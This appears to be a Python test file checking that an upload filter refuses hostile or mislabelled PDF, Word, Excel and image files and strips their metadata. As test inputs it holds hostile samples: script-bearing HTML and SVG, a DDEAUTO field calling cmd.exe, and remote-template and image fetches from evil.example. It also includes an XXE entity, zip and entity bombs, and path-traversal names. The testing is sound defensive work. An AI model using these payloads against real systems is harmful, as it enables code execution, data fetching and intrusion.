"""Uploads by content: B37-B39 of the bad-input catalogue; ASVS 1.5.1, 5.2.2, 5.2.3, 14.2.8."""

import hashlib
import io
import socket
import threading
import time
import tracemalloc
import zipfile
from typing import Any

import docx
import openpyxl
import pytest
from PIL import Image
from pypdf import PdfReader

from tests.kernel import samples
from tmr_app.kernel.content_checks import CheckedFile, FileRefused, Kind, check_file, display_name

TEXT = "Shënime nga vizita.\r\nĐorđe, Љиља\n".encode()


def refused(data: bytes, name: str, **options: Any) -> str:
    with pytest.raises(FileRefused) as caught:
        check_file(data, name, **options)
    return str(caught.value.message)


@pytest.fixture(scope="module")
def genuine() -> dict[str, bytes]:
    return {
        "raport.pdf": samples.pdf(),
        "raport.docx": samples.word(),
        "lista.xlsx": samples.excel(),
        "foto.png": samples.picture("PNG"),
        "foto.jpg": samples.picture("JPEG"),
        "shenime.txt": TEXT,
    }


GENUINE = ["raport.pdf", "raport.docx", "lista.xlsx", "foto.png", "foto.jpg", "shenime.txt"]


@pytest.mark.parametrize("name", GENUINE)
def test_a_genuine_file_is_kept(genuine: dict[str, bytes], name: str) -> None:
    kept = check_file(genuine[name], name)
    assert kept.display_name == name
    assert kept.sha256 == hashlib.sha256(kept.data).hexdigest()
    assert not kept.warnings
    assert samples.AUTHOR.encode() not in kept.data
    assert check_file(genuine[name], name.upper()).kind is kept.kind


@pytest.mark.parametrize("name", GENUINE)
def test_what_was_kept_is_kept_again_unchanged(genuine: dict[str, bytes], name: str) -> None:
    once = check_file(genuine[name], name)
    twice = check_file(once.data, name)
    assert twice.kind is once.kind
    if once.kind not in {
        Kind.JPEG,
        Kind.PDF,
    }:  # a JPEG loses a little each time, a PDF's objects are renumbered
        assert twice.data == once.data


@pytest.mark.parametrize(
    "said", [".pdf", ".docx", ".xlsx", ".png", ".jpg", ".txt", ".html", ".exe", "", ".svg"]
)
@pytest.mark.parametrize("name", GENUINE)
def test_wrong_pairs_of_name_and_content_are_refused(genuine: dict[str, bytes], name: str, said: str) -> None:
    """ASVS 5.2.2: 54 pairs."""
    if name.endswith(said) and said:
        check_file(genuine[name], f"x{said}")
    else:
        assert refused(genuine[name], f"x{said}")


HTML = b"<!doctype html><html><script>alert(1)</script></html>"
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'


@pytest.mark.parametrize("said", ["x.docx", "x.pdf", "x.txt", "x.png"])
@pytest.mark.parametrize(
    ("data", "found"),
    [
        (HTML, "web page"), (b"   \n<HTML>", "web page"), (SVG, "web page"), (b"text <script>x</script>", "web page"),
        (b"\xef\xbb\xbf<svg/>", "web page"), (b"MZ\x90\x00" + bytes(60), "program"), (b"\x7fELF" + bytes(60), "program"),
        (b"#!/bin/sh\nrm x\n", "program"), (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "encrypted Office"),
        (b"{\\rtf1 x}", "RTF"), (b"GIF89a" + bytes(20), "GIF"), (b"II*\x00" + bytes(20), "TIFF"),
        (b"RIFF\x00\x00\x00\x00WEBP", "WebP"), (b"Rar!\x1a\x07\x00", "archive"), (b"\x1f\x8b\x08" + bytes(20), "archive"),
        (b"7z\xbc\xaf\x27\x1c", "archive"), (bytes(100), "unknown"), (b"\xff\xfeA\x00", "unknown"),
        ("përshëndetje".encode("cp1250"), "unknown"),
    ],
)  # fmt: skip
def test_other_kinds_are_refused_by_name(data: bytes, found: str, said: str) -> None:
    """B38."""
    assert found in refused(data, said)


def test_a_program_or_archive_in_an_office_name_is_named() -> None:
    """B38."""
    assert "zip archive" in refused(samples.zipped({"a.txt": b"x"}), "x.docx")
    macro = samples.word(samples.with_entry("word/vbaProject.bin", b"x"))
    assert "macros" in refused(macro, "x.docx")
    docm = samples.word(
        samples.replacing(
            "[Content_Types].xml",
            samples.WORD_MAIN.encode(),
            b"application/vnd.ms-word.document.macroEnabled.main+xml",
        )
    )
    assert "macros" in refused(docm, "x.docx")
    template = samples.word(
        samples.replacing(
            "[Content_Types].xml", b"wordprocessingml.document.main", b"wordprocessingml.template.main"
        )
    )
    assert "another kind" in refused(template, "x.docx")


@pytest.mark.parametrize(
    ("change", "part"),
    [
        (samples.relation("attachedTemplate", "https://evil.example/t.dotm"), "fetches"),
        (samples.relation("image", "https://evil.example/pixel.png"), "fetches"),
        (samples.relation("image", "file://server/share/x.png"), "fetches"),
        (samples.relation("hyperlink", "file:///x"), "fetches"),
        (samples.relation("hyperlink", "javascript:alert(1)"), "fetches"),
        (samples.relation("oleObject", "x.bin"), "objects"),
        (samples.relation("aFChunk", "x.html"), "objects"),
        (samples.with_entry("word/embeddings/oleObject1.bin", b"x"), "objects"),
        (samples.with_entry("word/activeX/activeX1.xml", b"<x/>"), "objects"),
        (samples.with_entry("word/media/image9.svg", SVG), "objects"),
        (samples.with_entry("word/page.html", HTML), "objects"),
        (samples.field('DDEAUTO c:\\\\windows\\\\cmd.exe "/k"'), "fetches"),
        (samples.field("DDE", "AUTO c:\\\\cmd"), "fetches"),
        (samples.field(' INCLUDEPICTURE "https://evil.example/x.png"'), "fetches"),
        (samples.paragraph('<w:fldSimple w:instr=" includetext &quot;x&quot; "/>'), "fetches"),
    ],
)
def test_a_document_that_acts_is_refused(change: object, part: str) -> None:
    assert part in refused(samples.word(change), "x.docx")  # type: ignore[arg-type]


def test_an_honest_link_and_page_number_are_kept() -> None:
    change = samples.relation("hyperlink", "https://www.gov.example/")
    assert check_file(samples.word(change), "x.docx").kind is Kind.DOCX
    numbered = samples.field(" PAGE ", ' HYPERLINK "https://www.gov.example/a link b" ')
    assert check_file(samples.word(numbered), "x.docx").kind is Kind.DOCX


def test_a_workbook_with_outside_data_is_refused() -> None:
    linked = samples.excel(samples.with_entry("xl/externalLinks/externalLink1.xml", b"<x/>"))
    assert "fetches" in refused(linked, "x.xlsx")
    assert "fetches" in refused(samples.excel(samples.with_entry("xl/connections.xml", b"<x/>")), "x.xlsx")


def test_properties_go_and_what_needs_a_look_is_told() -> None:
    """T28, ASVS 14.2.8."""
    marked = samples.word(samples.paragraph(f'<w:ins w:author="{samples.AUTHOR}"><w:r/></w:ins>'))
    marked = samples.rezipped(marked, samples.with_entry("word/comments.xml", b"<x/>"))
    kept = check_file(marked, "x.docx")
    assert [str(warning).split(". ")[0] for warning in kept.warnings] == [
        "The document contains tracked changes",
        "The document contains comments with their authors' names",
    ]
    clean = docx.Document(io.BytesIO(check_file(samples.word(), "x.docx").data))
    assert "Çlirimi" in clean.paragraphs[0].text
    assert (clean.core_properties.author, clean.core_properties.comments) == ("", "")
    assert clean.core_properties.last_modified_by == ""
    book = openpyxl.load_workbook(io.BytesIO(check_file(samples.excel(), "x.xlsx").data))
    assert book.active["A1"].value == "Prishtinë"  # type: ignore[index]
    assert book.properties.creator != samples.AUTHOR


def test_pictures_inside_a_document_lose_their_place_too() -> None:
    change = samples.with_entry("word/media/image1.jpeg", samples.picture("JPEG"))
    kept = check_file(samples.word(change), "x.docx")
    with zipfile.ZipFile(io.BytesIO(kept.data)) as archive:
        inside = Image.open(io.BytesIO(archive.read("word/media/image1.jpeg")))
    assert not inside.getexif()


@pytest.mark.parametrize(("kind", "name"), [("JPEG", "x.jpg"), ("PNG", "x.png")])
def test_a_picture_loses_place_camera_and_author_and_stands_upright(kind: str, name: str) -> None:
    sample = samples.picture(kind)
    assert Image.open(io.BytesIO(sample)).getexif().get_ifd(0x8825)
    kept = check_file(sample + b"<script>appended</script>", name)
    image = Image.open(io.BytesIO(kept.data))
    assert image.size == (48, 64)
    assert not image.getexif()
    assert b"appended" not in kept.data
    assert b"Camera" not in kept.data


@pytest.mark.parametrize("mode", ["1", "L", "P", "RGBA", "LA"])
def test_pictures_of_every_mode_are_kept(mode: str) -> None:
    image = Image.new(mode, (10, 12))
    target = io.BytesIO()
    image.save(target, "PNG")
    assert Image.open(io.BytesIO(check_file(target.getvalue(), "x.png").data)).size == (10, 12)


def test_pdf_properties_go_and_signed_bytes_can_stay() -> None:
    sample = samples.pdf()
    kept = PdfReader(io.BytesIO(check_file(sample, "x.pdf").data))
    assert not (kept.metadata or {}).get("/Author")
    assert len(kept.pages) == 1
    assert check_file(sample, "x.pdf", keep_bytes=True).data == sample
    assert "comments" in str(check_file(samples.pdf_commented(), "x.pdf").warnings[0])


@pytest.mark.parametrize("keep_bytes", [False, True])
@pytest.mark.parametrize(
    ("make", "part"),
    [
        (samples.pdf_with_script, "program"),
        (samples.pdf_that_launches, "program"),
        (samples.pdf_that_submits, "program"),
        (samples.pdf_with_file, "other files inside"),
        (samples.pdf_locked, "password"),
    ],
)
def test_a_pdf_that_acts_hides_or_is_locked_is_refused(make: object, part: str, keep_bytes: bool) -> None:
    assert part in refused(make(), "x.pdf", keep_bytes=keep_bytes)


@pytest.mark.parametrize("name", GENUINE[:-1])
def test_a_file_cut_short_is_refused(genuine: dict[str, bytes], name: str) -> None:
    assert refused(genuine[name][: len(genuine[name]) // 2], name)
    assert refused(genuine[name][:12], name)


def test_empty_and_too_large_files_are_refused() -> None:
    """B37."""
    assert "empty" in refused(b"", "x.txt")
    assert "2 MB" in refused(b"a" * (2 * 1024 * 1024 + 1), "x.txt", largest=2 * 1024 * 1024)
    assert "Not accepted here" in refused(TEXT, "x.txt", allowed={Kind.PDF})


def quickly(data: bytes, name: str, megabytes: int = 50) -> str:
    """Refused in under a second and with little memory."""
    tracemalloc.start()
    began = time.process_time()
    try:
        reason = refused(data, name)
    finally:
        peak = tracemalloc.get_traced_memory()[1]
        tracemalloc.stop()
    assert time.process_time() - began < 1
    assert peak < megabytes * 1024 * 1024
    return reason


def test_bombs_are_refused_before_they_go_off() -> None:
    """B39, ASVS 5.2.3."""
    data = samples.zipped(samples.bomb())
    assert len(data) < 100_000
    assert "far more" in quickly(data, "x.docx")
    many = {f"word/{number}.xml": b"<x/>" for number in range(3_000)}
    assert "far more" in quickly(samples.zipped(samples.entries_of(samples.word()) | many), "x.docx")


def test_a_table_that_lies_is_refused() -> None:
    """B39."""
    data = samples.zipped(samples.bomb())
    assert "untrue" in quickly(samples.lying(data, "word/media/image1.xml", 1_000), "x.docx")
    assert "untrue" in quickly(samples.overlapping(), "x.docx")


@pytest.mark.parametrize(
    "name",
    [
        "../../etc/x.xml",
        "/x.xml",
        "word\\..\\x.xml",
        "c:x.xml",
        "word/../x.xml",
        "WORD/document.XML",
        "a\x07.xml",
    ],
)
def test_an_entry_that_leaves_the_archive_is_refused(name: str) -> None:
    """B39."""
    assert "untrue" in refused(samples.word(samples.with_entry(name, b"<x/>")), "x.docx")


def test_a_picture_of_thirty_thousand_points_a_side_is_refused_at_once() -> None:
    """B39."""
    assert "too many points" in quickly(samples.png_header(30_000, 30_000), "x.png")
    assert "too many points" in quickly(samples.png_header(9_000, 9_000), "x.png")
    assert "damaged" in refused(samples.png_header(100, 100), "x.png")


@pytest.mark.parametrize(
    "part", ["word/document.xml", "[Content_Types].xml", "word/_rels/document.xml.rels", "docProps/core.xml"]
)
def test_an_entity_bomb_is_refused_at_once(part: str) -> None:
    """ASVS 1.5.1."""
    assert "definitions" in quickly(samples.word(samples.with_entry(part, samples.entity_bomb())), "x.docx")
    wide = samples.entity_bomb().decode().encode("utf-16")
    assert "definitions" in quickly(samples.word(samples.with_entry(part, wide)), "x.docx")


def test_an_outside_entity_is_not_fetched() -> None:
    """ASVS 1.5.1: a listener on this machine sees nobody."""
    with socket.create_server(("127.0.0.1", 0)) as listener:
        listener.settimeout(0.2)
        called = threading.Event()
        port = listener.getsockname()[1]
        content = f'<!DOCTYPE x [<!ENTITY e SYSTEM "http://127.0.0.1:{port}/x">]><x>&e;</x>'.encode()
        assert "definitions" in refused(
            samples.word(samples.with_entry("word/document.xml", content)), "x.docx"
        )
        try:
            listener.accept()
            called.set()
        except TimeoutError:
            pass
        assert not called.is_set()


@pytest.mark.parametrize(
    ("name", "shown"),
    [
        ("Raporti i Çlirimit.pdf", "Raporti i Çlirimit.pdf"),
        ("../../etc/passwd.txt", "passwd.txt"),
        ("C:\\Users\\x\\raport.docx", "raport.docx"),
        ("a\x00b.pdf", "ab.pdf"),
        ("raport\u202efdp.exe", "raportfdp.exe"),
        ("con.txt", "_con.txt"),
        ("LPT1.pdf", "_LPT1.pdf"),
        ("...pdf", "file.pdf"),
        (".htaccess", "file.htaccess"),
        ("", "file"),
        ("   .txt", "file.txt"),
        ('a<b>:"|?*%.txt', "a_b_______.txt"),
        ("e\u0308.txt", "ë.txt"),
        ("x" * 500 + ".pdf", "x" * 116 + ".pdf"),
        ("raport.pdf.  ", "raport.pdf"),
        ("a\r\nb.txt", "a b.txt"),
    ],
)
def test_names_are_made_harmless(name: str, shown: str) -> None:
    """ASVS 5.3.2: and no name is ever a path."""
    assert display_name(name) == shown


def test_the_name_a_person_sees_comes_clean() -> None:
    kept: CheckedFile = check_file(TEXT, "../Shënime\u202e.txt")
    assert kept.display_name == "Shënime.txt"
    assert kept.data.decode() == TEXT.decode()
    assert check_file(b"\xef\xbb\xbf" + TEXT, "x.txt").data == TEXT


@pytest.mark.parametrize("elsewhere", ["docProps/Core.xml", "props/who.xml"])
def test_the_author_is_dropped_whatever_the_part_is_called(elsewhere: str) -> None:
    """Names in a package know no case, and the properties may lie anywhere: only their type says what they are."""

    def moved(entries: dict[str, bytes]) -> None:
        entries[elsewhere] = entries.pop("docProps/core.xml")
        for part in ("[Content_Types].xml", "_rels/.rels"):
            entries[part] = entries[part].replace(b"docProps/core.xml", elsewhere.encode())

    data = samples.word(moved)
    assert samples.AUTHOR.encode() in b"".join(samples.entries_of(data).values())
    checked = check_file(data, "raport.docx")
    assert samples.AUTHOR.encode() not in b"".join(samples.entries_of(checked.data).values())
